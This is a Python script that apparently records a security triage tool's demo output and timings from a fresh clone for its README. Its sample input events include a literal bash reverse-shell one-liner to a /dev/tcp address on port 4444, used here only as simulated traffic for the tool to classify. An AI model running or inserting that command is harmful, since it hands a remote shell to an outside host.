"""Clone the project as a new user would, run its first commands there, and keep what they really print."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Any

EVENTS = [
    "HTTP GET /index.html host=shop.example.com",
    "SSH src=ws-14 dst=203.0.113.23 port=22 known=no client=OpenSSH_9.6 auth=password tries=2^1 bytes=2^14 user=root",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "flows host=gw src=192.168.1.46 dst=db.corp.test conns=2^10 ports=2^9 peers=2^1 failed=50% gap=2^1s jitter=2^1%",
]
SET_UP, DEMO = "make .venv/.ready", "make demo"  # the second does the first too; apart, so that both are timed
COMMANDS = [
    SET_UP,
    DEMO,
    ".venv/bin/overproof triage out/demo/bundle events.txt",
    ".venv/bin/overproof inspect out/demo/bundle",
]
LAST_SCREEN = "All of it is simulated traffic"


def measured() -> dict[str, Any]:
    """Run the commands one after the other in a fresh clone of what is committed: what they print, and seconds."""
    folder = Path(tempfile.mkdtemp(prefix="overproof-clone-"))
    try:
        subprocess.run(["git", "clone", "--quiet", ".", str(folder)], check=True)
        (folder / "events.txt").write_text("".join(f"{event}\n" for event in EVENTS))
        found = {command: _run(command, folder) for command in COMMANDS}
    finally:
        shutil.rmtree(folder)
    return {"cores": len(os.sched_getaffinity(0)), "commands": found}


def _run(command: str, folder: Path) -> dict[str, Any]:
    settings = {name: value for name, value in os.environ.items() if name not in ("PYTHONPATH", "VIRTUAL_ENV")}
    begun = time.monotonic()
    done = subprocess.run(
        ["bash", "-c", command],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        cwd=folder,
        env={**settings, "COLUMNS": "100"},
        check=True,
    )
    return {"seconds": time.monotonic() - begun, "printed": done.stdout}


def to_markdown(result: dict[str, Any]) -> str:
    """All of it in one block, under what it took."""
    parts = [f"$ {command}\n{found['printed'].rstrip()}".rstrip() for command, found in result["commands"].items()]
    return f"{_took(result)}\n\n```console\n" + "\n\n".join(parts) + "\n```"


def last_screen(result: dict[str, Any]) -> str:
    """Return what the demo ends with, for the README."""
    printed = result["commands"][DEMO]["printed"]
    at = printed.index(LAST_SCREEN)
    return f"```console\n$ {DEMO}\n{printed[at:].rstrip()}\n```\n\n{_took(result)}"


def _took(result: dict[str, Any]) -> str:
    set_up, demo = (_minutes(result["commands"][command]["seconds"]) for command in (SET_UP, DEMO))
    return f"In a fresh clone, on {result['cores']} cores: {set_up} for the set-up, {demo} for the demo behind it."


def _minutes(seconds: float) -> str:
    minutes, rest = divmod(round(seconds), 60)
    return f"{minutes} min {rest} s"
